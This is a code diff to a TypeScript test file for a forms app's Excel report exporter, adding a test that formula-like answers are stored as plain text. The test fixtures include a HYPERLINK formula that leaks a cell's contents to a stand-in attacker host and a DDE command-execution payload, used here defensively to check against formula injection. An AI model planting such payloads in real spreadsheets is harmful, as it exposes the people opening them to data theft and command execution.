@@ -1,11 +1,12 @@
 import ExcelJS from 'exceljs'
-import { unzipSync } from 'fflate'
+import { strFromU8, unzipSync } from 'fflate'
 import { describe, expect, it } from 'vitest'
 import { getChemical } from '#forms/codelists/index.ts'
-import { evaluate } from '#forms/engine/index.ts'
+import { askedAnswers } from '#forms/engine/index.ts'
 import { isMarked } from '#forms/engine/values.ts'
 import { formText } from '#forms/text.ts'
 import type { Answer, ContactAnswer, Question } from '#forms/types.ts'
+import { buildCompleteArt15V6Answers, art15V6Context } from '#forms/fixtures/builders.ts'
 import { DDT_V1, sampleDocument } from '../fixtures.ts'
 import { documentLabels } from '../labels.ts'
 import { questionsOf, type ReportDocument } from '../report-document.ts'
@@ -18,7 +19,11 @@ async function readBack(doc: ReportDocument, entries: LayoutEntry[], workbook: E
 	const bytes = await workbook.xlsx.writeBuffer()
 	const read = new ExcelJS.Workbook()
 	await read.xlsx.load(bytes)
-	const codec = new CellCodec(formText(doc.definition, doc.lang), doc.formContext)
+	const codec = new CellCodec(
+		formText(doc.definition, doc.lang),
+		doc.formContext,
+		doc.definition.codeLists,
+	)
 	const questions = new Map(
 		[...questionsOf(doc.definition)].map(({ question }) => [question.id, question]),
 	)
@@ -68,12 +73,12 @@ async function readBack(doc: ReportDocument, entries: LayoutEntry[], workbook: E
 
 /** Answers as the export shows them: visible, non-attachment, table rows without their key. */
 function expectedAnswers(doc: ReportDocument, questions: Question[]) {
-	const evaluation = evaluate(doc.definition, doc.answers, doc.formContext)
+	// The export shows the answers as asked: hidden questions and unasked rows left out.
+	const asked = askedAnswers(doc.definition, doc.answers, doc.formContext)
 	const expected: Record<string, unknown> = {}
 	for (const question of questions) {
-		const value = doc.answers[question.id]
+		const value = asked[question.id]
 		if (value === undefined || question.type === 'attachment') continue
-		if (!evaluation.questions[question.id]?.visible) continue
 		if (question.type === 'table' && !isMarked(value)) {
 			expected[question.id] = {
 				rows: (value as { rows: { id: string; cells: object }[] }).rows.map((row) => ({
@@ -103,6 +108,8 @@ describe('report workbook', () => {
 		expect(meta.name).toBe(labels.metadataSheet)
 		const metaValues = meta.getSheetValues().flat().map(String)
 		expect(metaValues).toContain(doc.meta.sha256)
+		expect(metaValues).toContain(doc.meta.formSha256)
+		expect(metaValues).toContain(labels.formFingerprint)
 		expect(metaValues).toContain(labels.states.accepted)
 		expect(read.getWorksheet(LISTS_SHEET)?.state).toBe('hidden')
 		expect(read.getWorksheet(TEMPLATE_SHEET)).toBeUndefined()
@@ -136,4 +143,37 @@ describe('report workbook', () => {
 		// Quantities accept markers, so they are not restricted to numbers.
 		expect(sheet.getCell(`D${statistics.headerRow + 1}`).dataValidation?.type).toBeUndefined()
 	})
+
+	it.each(['export', 'template'] as const)(
+		'writes formula-like answers as text cells, never formulas (%s)',
+		async (kind) => {
+			const answers = buildCompleteArt15V6Answers(art15V6Context())
+			answers.b_obstacles_implementation = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+			answers.b_obstacles_reporting = "=cmd|' /C calc'!A0"
+			const contact = answers.a_nfp_contact as ContactAnswer
+			contact.phone = '+254 20 555 0100'
+			// Never valid data, but no object in the answers may reach exceljs as a formula.
+			answers.b_format_comments = { formula: '1+1' } as never
+			const doc = sampleDocument({ answers })
+			const { workbook, entries } = createReportWorkbook(
+				doc,
+				kind === 'export' ? { kind } : { kind, mode: 'prefilled' },
+			)
+			const bytes = new Uint8Array(await workbook.xlsx.writeBuffer())
+			const files = unzipSync(bytes)
+			const sheets = Object.keys(files).filter((name) => name.startsWith('xl/worksheets/sheet'))
+			for (const name of sheets) expect(strFromU8(files[name]!), name).not.toMatch(/<f[\s>]/)
+			const read = new ExcelJS.Workbook()
+			await read.xlsx.load(bytes as never)
+			const cellOf = (ref: string) => {
+				const entry = entries.find((item) => item.kind === 'scalar' && item.ref === ref)
+				if (entry?.kind !== 'scalar') throw new Error(ref)
+				return read.getWorksheet(entry.sheet)!.getCell(entry.row, 3).value
+			}
+			expect(cellOf('b_obstacles_implementation')).toBe(answers.b_obstacles_implementation)
+			expect(cellOf('b_obstacles_reporting')).toBe(answers.b_obstacles_reporting)
+			expect(cellOf('a_nfp_contact.phone')).toBe('+254 20 555 0100')
+			expect(cellOf('b_format_comments')).toBe('{"formula":"1+1"}')
+		},
+	)
 })
